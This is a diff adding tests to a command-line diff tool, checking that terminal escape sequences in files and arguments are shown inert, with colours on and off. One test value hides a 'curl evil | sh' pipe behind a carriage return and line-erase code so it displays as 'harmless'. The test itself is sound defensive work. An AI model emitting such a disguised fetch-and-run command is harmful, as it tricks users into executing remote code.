@@ -63,3 +63,37 @@ describe('no control character or direction mark of a file, a name or an answer 
     expect((JSON.parse(out) as { files: { diff: string }[] }).files[0]?.diff).toContain(HOSTILE)
   })
 })
+
+/** What the command writes itself: colours, and the erasing of a line. Each hides text, or draws over it. */
+const BORROWED = ['\u001b[8mhidden\u001b[0m', 'curl evil | sh\r\u001b[Kharmless', '\u001b[31mred', '\u001b[1;31mred', '\u001b[38;5;1m']
+
+describe('a sequence of the kind that the command writes itself is shown, not obeyed, with colours on and off', () => {
+  const file = BORROWED.join('\n')
+  const calls: readonly (readonly [args: readonly string[], stdin?: string])[] = [
+    [['diff', 'a.txt', 'b.txt']],
+    [['convert', '--to', 'fudiff'], block(file)],
+    [['convert', '--to', 'unified', '--root', '.'], block(file)],
+    [['apply', '--root', '.'], block(file)],
+    [['apply', '--root', '.'], block(`not ${file}`)],
+    [['explain', '--root', '.'], block(`not ${file}`)],
+    [['apply', BORROWED[0]!]],
+    [['apply', `--${BORROWED[2]}`]],
+    [['apply', '--root', BORROWED[3]!], 'x'],
+    [['undo', BORROWED[0]!, '--root', '.']],
+  ]
+  test.each(calls.flatMap(([args, stdin]) => ['never', 'always'].map((color) => ({ args, stdin, color }))))(
+    '$args, colours $color',
+    async ({ args, stdin = '', color }) => {
+      const root = scratch()
+      writeFileSync(join(root, 'a.txt'), `${file}\nlast\n`)
+      writeFileSync(join(root, 'b.txt'), `${file}\nnew\u001b[8m\nlast\n`)
+      const env = color === 'always' ? { FORCE_COLOR: '1' } : { NO_COLOR: '1' }
+      const { out, err } = await suture(root, args, { stdin, outIsTerminal: true, errIsTerminal: true, env })
+      // The styles that begin and end as the command's own do, and nothing else.
+      const left = (out + err).replace(/\u001b\[(1|2|31|32|33|36)m((?:(?!\u001b).)*)\u001b\[(?:22|39)m/gs, color === 'always' ? '$2' : '$&')
+      expect(left.match(ACTIVE)).toBeNull()
+      expect(out + err).not.toBe('')
+      expect(out + err).not.toContain('\u001b[8m')
+    },
+  )
+})
